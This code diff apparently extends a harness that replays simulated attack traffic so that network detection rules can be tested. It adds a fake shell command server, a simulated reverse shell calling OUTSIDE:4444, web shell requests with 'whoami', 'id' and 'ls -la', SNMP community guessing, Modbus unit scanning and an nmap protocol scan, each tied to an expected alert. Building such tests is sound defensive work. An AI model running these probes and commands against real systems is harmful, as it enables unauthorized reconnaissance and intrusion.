@@ -216,6 +216,29 @@ class Stratum(Lines):
         self.wfile.write(json.dumps({"id": number, "result": True, "error": None}).encode() + b"\n")
 
 
+class Modbus(socketserver.StreamRequestHandler):
+    """A controller with one unit that has coils and nothing else."""
+
+    def handle(self):
+        while True:
+            head = self.rfile.read(7)
+            if len(head) < 7:
+                return
+            number, _, length, unit = struct.unpack(">HHHB", head)
+            function = self.rfile.read(length - 1)[0]
+            body = bytes([function, 1, 0]) if (unit, function) == (1, 1) else bytes([function | 0x80, 11 if unit != 1 else 1])
+            self.wfile.write(struct.pack(">HHHB", number, 0, len(body) + 1, unit) + body)
+
+
+class Shells(socketserver.StreamRequestHandler):
+    """Where shells call home: says what they are to do."""
+
+    def handle(self):
+        for command in (b"whoami\n", b"ipconfig\n", b"exit\n"):
+            self.request.recv(4096)
+            self.wfile.write(command)
+
+
 class Server(socketserver.ThreadingTCPServer):
     """What a client breaks off or garbles ends its connection and nothing else."""
 
@@ -227,7 +250,7 @@ class Server(socketserver.ThreadingTCPServer):
         pass
 
 
-SERVICES = {21: Ftp, 25: Smtp, 80: Web, 110: Pop3, 143: Imap, 3333: Stratum}
+SERVICES = {21: Ftp, 25: Smtp, 80: Web, 110: Pop3, 143: Imap, 502: Modbus, 3333: Stratum, 4444: Shells}
 
 
 def serve():
@@ -285,7 +308,41 @@ def play_paths():
         ask(b"/admin%d.php" % number, VICTIM)
 
 
-PLAYS = {"beacon": play_beacon, "dns_text": play_dns_text, "stratum": play_stratum, "paths": play_paths}
+def play_controllers():
+    with socket.create_connection((VICTIM, 502), 5) as controller:
+        for unit in range(1, 40):
+            for function in (1, 3, 17):
+                controller.sendall(struct.pack(">HHHBBHH", unit, 0, 6, unit, function, 0, 1))
+                controller.recv(300)
+
+
+def play_shell():
+    with socket.create_connection((OUTSIDE, 4444), 5) as home:
+        home.sendall(b"Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\>")
+        for answer in (b"lab\\carol\r\n\r\nC:\\>", b"\r\nWindows IP Configuration\r\n\r\nC:\\>"):
+            home.recv(300)
+            home.sendall(answer)
+
+
+def play_web_shell():
+    for command in (b"whoami", b"id", b"ls+-la"):
+        ask(b"/task/a.php?cmd=%s" % command, VICTIM)
+
+
+def play_communities():
+    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    name = b"\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00"
+    for word in WORDS:
+        bound = b"\x30" + bytes([len(name) + 4]) + b"\x30" + bytes([len(name) + 2]) + name + b"\x05\x00"
+        body = b"\x02\x01\x07\x02\x01\x00\x02\x01\x00" + bound
+        message = b"\x02\x01\x01\x04" + bytes([len(word)]) + word.encode() + b"\xa0" + bytes([len(body)]) + body
+        probe.sendto(b"\x30" + bytes([len(message)]) + message, (VICTIM, 161))
+        # One port a question: each is a flow of its own.
+        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        time.sleep(0.05)
+
+
+PLAYS = {"communities": play_communities, "controllers": play_controllers, "shell": play_shell, "web_shell": play_web_shell, "beacon": play_beacon, "dns_text": play_dns_text, "stratum": play_stratum, "paths": play_paths}
 
 
 def spread(path, seconds, jitter):
@@ -346,6 +403,11 @@ def attacks(words, folder):
          ["tunnel_dns", "tunnel_dns_volume"]),
         ("data in names of DNS, answers in texts", here + ["dns_text"], ["tunnel_dns", "tunnel_dns_volume"]),
         ("miner", here + ["stratum"], ["miner"]),
+        ("units of a controller", here + ["controllers"], ["control_scan"]),
+        ("shell that calls home", here + ["shell"], ["shell_clear"]),
+        ("commands to a page", here + ["web_shell"], ["webshell"]),
+        ("protocols above IP", ["nmap", "-n", "-Pn", "-sO", "--max-retries", "0", "--min-rate", "50", VICTIM], ["scan_protocols"]),
+        ("communities of SNMP", here + ["communities"], ["snmp_guess"]),
         ("beacon of a minute, jitter of a tenth", here + ["beacon"], ["beacon"]),
         ("beacon of a minute, jitter of a third", here + ["beacon"], ["beacon"]),
     ]
